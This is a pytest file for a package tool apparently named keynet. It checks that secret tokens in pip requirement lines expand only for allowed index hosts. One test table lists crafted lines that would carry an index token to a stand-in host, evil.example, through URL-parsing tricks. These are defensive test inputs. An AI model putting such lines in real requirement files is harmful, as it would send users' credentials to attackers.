"""Variables are replaced as pip does, but secrets go only where the user's settings say."""

import pytest

from keynet.errors import ContextInvalid
from keynet.recipe.dependencies.lines.variables import Variables
from tests.tables import table

ENVIRONMENT = {
    "HOST": "example.com",
    "INDEX_TOKEN": "t0ken-of-the-user",
    "KEYNET_API_TOKEN": "eyJ",
    "PLAIN": "ghp_0123456789abcdef0123",
    "LINES": "a\nb",
    "EMPTY": "",
}
UNKNOWN = "${ABSENT} ${EMPTY} ${LINES} ${lower} $HOST"
VARIABLES = Variables(ENVIRONMENT, frozenset({"index.example.com", "other.example.com:8443"}))


@table(
    ("line", "expected"),
    [
        ("-i https://${HOST}/${HOST}", "-i https://example.com/example.com"),
        (UNKNOWN, UNKNOWN),
        ("-i https://u:${INDEX_TOKEN}@index.example.com/simple",
         "-i https://u:t0ken-of-the-user@index.example.com/simple"),
        ("--extra-index-url=https://${INDEX_TOKEN}@other.example.com:8443",
         "--extra-index-url=https://t0ken-of-the-user@other.example.com:8443"),
    ],
)  # fmt: skip
def test_variables_are_replaced(line: str, expected: str) -> None:
    assert VARIABLES.replaced(line, "f:1", trusted=False) == expected


@table(
    "line",
    [
        "-i https://${INDEX_TOKEN}@evil.example/simple",
        "-i https://u:${PLAIN}@evil.example/simple",
        "-i https://index.example.com/${INDEX_TOKEN}",
        "-i https://index.example.com.evil.example/?${INDEX_TOKEN}@index.example.com",
        "-i https://a@evil.example/${INDEX_TOKEN}@index.example.com/",
        "-i https://${INDEX_TOKEN}@index.example.com@evil.example/",
        "-i https://${INDEX_TOKEN}@index.example.com\\@evil.example/",
        "-i https://${INDEX_TOKEN}@index.example.com:9/",
        "-i https://${INDEX_TOKEN}@index.example.com:443",
        "-i https://${INDEX_TOKEN}.evil.example/",
        "six==${INDEX_TOKEN}",
        "git+https://${INDEX_TOKEN}@evil.example/x.git",
        "-i https://${INDEX_TOKEN}@index.example.com/${INDEX_TOKEN}",
    ],
)
def test_a_secret_goes_to_no_other_server(line: str) -> None:
    with pytest.raises(ContextInvalid, match="looks like a secret") as caught:
        VARIABLES.replaced(line, "f:1", trusted=False)
    assert "t0ken" not in f"{caught.value.message} {caught.value.hint}"
    assert "--requirements" in caught.value.hint
    assert "t0ken" in VARIABLES.replaced(line, "f:1", trusted=True) or "PLAIN" in line


@pytest.mark.parametrize("trusted", [True, False])
def test_keynets_own_secrets_are_never_replaced(trusted: bool) -> None:
    with pytest.raises(ContextInvalid, match="KEYNET_API_TOKEN"):
        VARIABLES.replaced(
            "-i https://${KEYNET_API_TOKEN}@index.example.com", "f:1", trusted=trusted
        )
